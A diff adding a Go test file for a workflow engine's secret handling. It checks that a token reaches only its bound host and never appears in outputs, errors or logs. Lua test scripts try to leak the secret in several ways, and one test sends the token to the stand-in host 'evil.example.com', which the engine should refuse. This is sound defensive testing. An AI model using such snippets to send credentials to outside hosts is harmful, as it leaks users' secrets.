@@ -1,0 +1,213 @@
+package engine_test
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/pdflow/pdflow/engine"
+	"github.com/pdflow/pdflow/engine/action"
+)
+
+const secretText = "sw0rdf1sh"
+
+type postInput struct {
+	Host    string            `json:"host" required:"true" doc:"Where to."`
+	Token   action.Credential `json:"token" doc:"The key."`
+	Note    string            `json:"note" doc:"Any text."`
+	Payload action.Object     `json:"payload" secrets:"true" doc:"May hold secrets."`
+}
+
+func (in *postInput) Targets() ([]action.Target, error) {
+	return []action.Target{{Scheme: "https", Host: in.Host, Port: 443}}, nil
+}
+
+type postOutput struct {
+	Echo string `json:"echo" doc:"What the service sends back."`
+}
+
+// poster is a host whose demo.post reveals its token, as an http client does, and
+// whose service sends everything back.
+func poster(sent *[]string) *host {
+	post := action.New(action.Spec{Name: "demo.post", Summary: "Post.", Effect: action.Reads},
+		func(ctx context.Context, in postInput) (postOutput, error) {
+			text, err := in.Token.Reveal(ctx, action.Destination(in.Host))
+			if err != nil {
+				return postOutput{}, err
+			}
+			*sent = append(*sent, text)
+			if in.Note == "fail" {
+				return postOutput{}, errors.New("401 for Bearer " + text)
+			}
+			if in.Note == "log" {
+				action.ScopeOf(ctx).Log(action.LogRecord{Level: "info", Message: "used " + text, Fields: action.Object{"token": text}})
+			}
+			return postOutput{Echo: "you sent " + text}, nil
+		})
+	h := newHost(post)
+	h.secrets = map[string]string{"TOKEN": secretText}
+	return h
+}
+
+const secretHead = `
+secrets: {TOKEN: {hosts: [api.example.com]}}
+permissions: {http: ["https://api.example.com", "https://other.example.com"]}
+`
+
+func TestSecretIsRevealedWhereItIsBound(t *testing.T) {
+	for name, step := range map[string]string{
+		"uses":   "- uses: demo.post\n  with: {host: api.example.com, token: \"${{ secrets.TOKEN }}\"}\n",
+		"script": "- lua: |\n    demo.post{host = 'api.example.com', token = secrets.TOKEN}\n",
+	} {
+		t.Run(name, func(t *testing.T) {
+			var sent []string
+			h := poster(&sent)
+			mustSucceed(t, h.run(t, secretHead+"steps:\n"+step))
+			if diff := cmp.Diff([]string{secretText}, sent); diff != "" {
+				t.Errorf("sent (-want +got):\n%s", diff)
+			}
+			want := any(map[string]any{"$secret": "TOKEN"})
+			got := h.calls(engine.CallStarted)[0].Input["token"]
+			if secret, ok := got.(action.Secret); !ok || secret.Name != "TOKEN" {
+				t.Errorf("got %v recorded, want the reference %v", got, want)
+			}
+		})
+	}
+}
+
+func TestSecretIsRefusedElsewhere(t *testing.T) {
+	var sent []string
+	h := poster(&sent)
+	got := h.run(t, secretHead+"steps:\n- lua: |\n    demo.post{host = 'other.example.com', token = secrets.TOKEN}\n")
+	mustFail(t, got, engine.Failed, action.Permission)
+	if len(sent) > 0 || !strings.Contains(got.Error.Message, "TOKEN may not go to other.example.com") ||
+		!strings.Contains(got.Error.Hint, "api.example.com, other.example.com") {
+		t.Errorf("got %+v after sending %v, want what to bind it to", got.Error, sent)
+	}
+}
+
+// TestSecretIsNowhere: the text is in no output, event, error or log, however a
+// script tries to get at it.
+func TestSecretIsNowhere(t *testing.T) {
+	scripts := map[string]string{
+		"the answer holds it":       "return demo.post{host = 'api.example.com', token = secrets.TOKEN}",
+		"the error holds it":        "demo.post{host = 'api.example.com', token = secrets.TOKEN, note = 'fail'}",
+		"the caught error holds it": "local _, e = pcall(demo.post, {host = 'api.example.com', token = secrets.TOKEN, note = 'fail'}) return {e.message, tostring(e)}",
+		"the log holds it":          "demo.post{host = 'api.example.com', token = secrets.TOKEN, note = 'log'}",
+		"it is returned":            "return {a = {secrets.TOKEN}}",
+		"it is returned whole":      "return secrets",
+		"it is raised":              "error(secrets.TOKEN)",
+		"it is raised as text":      "error({message = tostring(secrets.TOKEN)})",
+		"it is an input":            "return inputs.note",
+		"it is a name":              "return {[demo.post{host = 'api.example.com', token = secrets.TOKEN}.echo] = 1}",
+	}
+	for name, script := range scripts {
+		t.Run(name, func(t *testing.T) {
+			var sent []string
+			h := poster(&sent)
+			source := "inputs: {note: {type: string}}\n" + secretHead + "steps:\n- id: s\n  lua: |\n    " + script + "\noutputs: {all: \"${{ steps.s.outputs }}\"}\n"
+			got := h.runWith(t, context.Background(), source, action.Object{"note": "it is " + secretText})
+			everything := h.text(t) + fmt.Sprintf("%+v %+v %+v", got, got.Error, got.Steps)
+			if strings.Contains(everything, secretText) {
+				t.Errorf("the secret is in what the run tells: %s", everything)
+			}
+		})
+	}
+}
+
+// TestErrorsReachScriptsRedacted: a script that could read a secret in the text
+// of an error could send it anywhere.
+func TestErrorsReachScriptsRedacted(t *testing.T) {
+	var sent []string
+	h := poster(&sent)
+	script := "local _, e = pcall(demo.post, {host = 'api.example.com', token = secrets.TOKEN, note = 'fail'})\n    return #e.message"
+	got := h.run(t, secretHead+"steps:\n- id: s\n  lua: |\n    "+script+"\noutputs: {n: \"${{ steps.s.outputs }}\"}\n")
+	mustSucceed(t, got)
+	if want := float64(len("401 for Bearer ‹redacted›")); got.Outputs["n"] != want {
+		t.Errorf("got a message of %v bytes, want %v", got.Outputs["n"], want)
+	}
+}
+
+func TestReturnedSecretIsNamed(t *testing.T) {
+	var sent []string
+	got := poster(&sent).run(t, secretHead+"steps:\n- lua: |\n    return {a = {1, secrets.TOKEN}}\n")
+	mustFail(t, got, engine.Failed, action.InvalidInput)
+	if want := "outputs.a[2] is ‹secret TOKEN›: a secret cannot be returned"; got.Error.Message != want {
+		t.Errorf("got %q, want %q", got.Error.Message, want)
+	}
+}
+
+func TestSecretInput(t *testing.T) {
+	var sent []string
+	h := poster(&sent)
+	source := `
+inputs: {key: {type: string, secret: true, hosts: [api.example.com]}}
+permissions: {http: ["https://api.example.com"]}
+steps:
+- lua: |
+    demo.post{host = 'api.example.com', token = inputs.key}
+    return tostring(inputs.key)
+`
+	local, plan := h.compile(t, source)
+	got, err := local.Run(context.Background(), plan, engine.Request{Inputs: action.Object{"key": secretText}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	mustSucceed(t, got)
+	if diff := cmp.Diff([]string{secretText}, sent); diff != "" {
+		t.Errorf("sent (-want +got):\n%s", diff)
+	}
+	if got.Steps[0].Outputs != "‹secret inputs.key›" || strings.Contains(h.text(t), secretText) {
+		t.Errorf("got %v and the events %s, want the name alone", got.Steps[0].Outputs, h.text(t))
+	}
+}
+
+// TestMissingSecret: a run that lacks a secret does not begin.
+func TestMissingSecret(t *testing.T) {
+	for name, text := range map[string]string{"absent": "", "too short": "abc"} {
+		t.Run(name, func(t *testing.T) {
+			var sent []string
+			h := poster(&sent)
+			if h.secrets = map[string]string{}; text != "" {
+				h.secrets["TOKEN"] = text
+			}
+			local, plan := h.compile(t, secretHead+"steps:\n- lua: |\n    return 1\n")
+			_, err := local.Run(context.Background(), plan, engine.Request{})
+			if !engine.IsInputError(err) || !strings.Contains(err.Error(), "TOKEN") || len(h.events) > 0 {
+				t.Errorf("got %v after %d events, want an input error that names the secret", err, len(h.events))
+			}
+		})
+	}
+}
+
+// TestPermissionComesFirst: what the workflow does not list is refused before
+// anything is recorded, revealed or sent, and a script can tell.
+func TestPermissionComesFirst(t *testing.T) {
+	var sent []string
+	h := poster(&sent)
+	source := `
+secrets: {TOKEN: {hosts: ["*.example.com"]}}
+permissions: {http: ["https://api.example.com"]}
+steps:
+- id: s
+  lua: |
+    local ok, err = pcall(demo.post, {host = 'evil.example.com', token = secrets.TOKEN})
+    return {ok = ok, kind = err.kind, action = err.action, hint = err.hint}
+- uses: demo.post
+  with: {host: evil.example.com, token: "${{ secrets.TOKEN }}"}
+`
+	got := h.run(t, source)
+	mustFail(t, got, engine.Failed, action.Permission)
+	want := any(action.Object{
+		"ok": false, "kind": "permission", "action": "demo.post", "hint": `add it: permissions: {http: ["https://evil.example.com"]}`,
+	})
+	if diff := cmp.Diff(want, got.Steps[0].Outputs); diff != "" {
+		t.Errorf("what the script sees (-want +got):\n%s", diff)
+	}
+	if len(sent) > 0 || len(h.calls(engine.CallStarted)) > 0 {
+		t.Errorf("got %v sent and %d calls recorded, want none", sent, len(h.calls(engine.CallStarted)))
+	}
+}
